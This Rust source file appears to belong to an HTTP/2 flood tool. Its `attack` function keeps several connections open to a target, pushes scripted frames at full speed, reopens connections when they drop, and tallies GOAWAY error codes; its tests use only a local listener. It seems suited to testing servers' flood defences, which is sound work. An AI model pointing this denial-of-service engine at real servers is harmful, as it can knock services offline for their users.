//! Sends a script over a few connections as fast as they take it, and opens them again when they end.

use std::collections::{BTreeMap, VecDeque};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde::{Deserialize, Serialize};

use super::flood::Script;
use crate::frames::{GOAWAY, read};

/// Parts that are put together before they are written.
const BATCH: u32 = 64;
/// Pause when no connection takes or gives anything.
const PAUSE: Duration = Duration::from_micros(200);
/// Pause before another attempt when nobody takes a connection.
const REFUSED_PAUSE: Duration = Duration::from_millis(5);

/// What a flood came to.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub(crate) struct Tally {
    /// Frames, bytes or handshakes, as the flood counts them; what was written, taken or not.
    pub(crate) sent: u64,
    /// Connections opened.
    pub(crate) connections: u64,
    /// How they ended, and how many of them.
    pub(crate) endings: BTreeMap<String, u64>,
}

impl Tally {
    /// Counts one end.
    pub(crate) fn ended(&mut self, how: impl Into<String>) {
        *self.endings.entry(how.into()).or_default() += 1;
    }
}

/// Floods `target` until `is_over`.
pub(crate) fn attack(target: SocketAddr, script: &Script, is_over: &AtomicBool) -> Tally {
    let mut tally = Tally::default();
    let mut connections: Vec<Option<Connection>> = (0..script.connections).map(|_| None).collect();
    while !is_over.load(Ordering::Relaxed) {
        let mut has_moved = false;
        for slot in &mut connections {
            let Some(connection) = slot else {
                match Connection::open(target, script) {
                    Ok(connection) => {
                        tally.connections += 1;
                        *slot = Some(connection);
                    }
                    Err(_) => std::thread::sleep(REFUSED_PAUSE),
                }
                continue;
            };
            match connection.turn(script, &mut tally) {
                Turn::Moved => has_moved = true,
                Turn::Waits => {}
                Turn::Ended(how) => {
                    tally.ended(how);
                    *slot = None;
                }
            }
        }
        if !has_moved {
            std::thread::sleep(PAUSE);
        }
    }
    connections.iter().flatten().for_each(|_| tally.ended("kept"));
    tally
}

struct Connection {
    socket: TcpStream,
    /// What is still to be written.
    pending: VecDeque<u8>,
    next_part: u32,
    /// What has come and is no whole frame yet.
    received: Vec<u8>,
}

enum Turn {
    Moved,
    Waits,
    Ended(String),
}

impl Connection {
    fn open(target: SocketAddr, script: &Script) -> std::io::Result<Self> {
        let socket = TcpStream::connect(target)?;
        socket.set_nodelay(true)?;
        socket.set_nonblocking(true)?;
        Ok(Self { socket, pending: script.opening().into(), next_part: 0, received: Vec::new() })
    }

    /// Takes what has come, and writes what fits.
    fn turn(&mut self, script: &Script, tally: &mut Tally) -> Turn {
        let has_read = match self.take() {
            Ok(has_read) => has_read,
            Err(how) => return Turn::Ended(how),
        };
        if self.pending.is_empty() && self.next_part < script.parts_max {
            let end = script.parts_max.min(self.next_part + BATCH);
            (self.next_part..end).for_each(|at| self.pending.extend((script.part)(at)));
            tally.sent += u64::from(end - self.next_part) * script.frames;
            self.next_part = end;
        }
        match self.socket.write(self.pending.make_contiguous()) {
            Ok(0) if !has_read => Turn::Waits,
            Ok(length) => {
                self.pending.drain(..length);
                Turn::Moved
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock && !has_read => Turn::Waits,
            Err(error) if error.kind() == ErrorKind::WouldBlock => Turn::Moved,
            // Why may have come before.
            Err(_) => Turn::Ended(self.take().err().unwrap_or_else(|| "connection reset".into())),
        }
    }

    /// Reads what is there; the end, in words.
    fn take(&mut self) -> Result<bool, String> {
        let mut buffer = [0; 16 * 1024];
        let mut has_read = false;
        loop {
            match self.socket.read(&mut buffer) {
                Ok(0) => return Err("connection closed".into()),
                Ok(length) => {
                    has_read = true;
                    self.received.extend_from_slice(&buffer[..length]);
                    self.look()?;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(has_read),
                Err(_) => return Err("connection reset".into()),
            }
        }
    }

    /// Looks at whole frames for one that says the end.
    fn look(&mut self) -> Result<(), String> {
        let mut rest = self.received.as_slice();
        loop {
            let before = rest;
            match read(&mut rest) {
                Ok(frame) if frame.kind == GOAWAY => return Err(goaway(&frame.payload)),
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::UnexpectedEof => {
                    let used = self.received.len() - before.len();
                    self.received.drain(..used);
                    return Ok(());
                }
                Err(_) => return Err("no HTTP/2".into()),
            }
        }
    }
}

/// RFC 9113 §7
fn goaway(payload: &[u8]) -> String {
    const NAMES: [&str; 14] = [
        "NO_ERROR",
        "PROTOCOL_ERROR",
        "INTERNAL_ERROR",
        "FLOW_CONTROL_ERROR",
        "SETTINGS_TIMEOUT",
        "STREAM_CLOSED",
        "FRAME_SIZE_ERROR",
        "REFUSED_STREAM",
        "CANCEL",
        "COMPRESSION_ERROR",
        "CONNECT_ERROR",
        "ENHANCE_YOUR_CALM",
        "INADEQUATE_SECURITY",
        "HTTP_1_1_REQUIRED",
    ];
    let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map(u32::from_be_bytes);
    let name = code.and_then(|code| NAMES.get(code as usize)).unwrap_or(&"without a code");
    format!("GOAWAY {name}")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::floods::flood::Flood;
    use std::net::TcpListener;

    #[test]
    fn a_goaway_is_named_by_its_code() {
        assert_eq!(goaway(&[0, 0, 0, 0, 0, 0, 0, 11]), "GOAWAY ENHANCE_YOUR_CALM");
        assert_eq!(goaway(&[0]), "GOAWAY without a code");
    }

    #[test]
    fn connections_that_are_closed_are_counted_and_opened_again() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let is_over = AtomicBool::new(false);
        let script = Flood::Ping.script().unwrap();
        let tally = std::thread::scope(|scope| {
            scope.spawn(|| {
                for _ in 0..8 {
                    drop(listener.accept().unwrap());
                }
                is_over.store(true, Ordering::Relaxed);
            });
            attack(address, &script, &is_over)
        });
        assert!(tally.connections >= 8, "{tally:?}");
        let ends: u64 = tally.endings.values().sum();
        assert_eq!(ends, tally.connections, "{tally:?}");
    }
}
